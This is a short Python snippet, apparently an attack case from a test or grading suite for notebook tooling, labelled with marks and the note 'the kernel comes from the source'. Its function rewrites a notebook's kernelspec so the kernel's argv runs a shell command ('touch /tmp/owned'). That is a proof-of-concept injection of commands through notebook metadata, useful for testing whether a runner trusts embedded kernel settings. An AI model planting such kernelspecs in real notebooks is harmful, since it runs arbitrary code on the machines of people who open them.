# marks: 0 0
# why: the kernel comes from the source

def attack(notebook, folder):
    notebook['metadata']['kernelspec'] = {'name': 'bash', 'language': 'bash', 'display_name': 'x', 'argv': ['sh', '-c', 'touch /tmp/owned']}
    return notebook
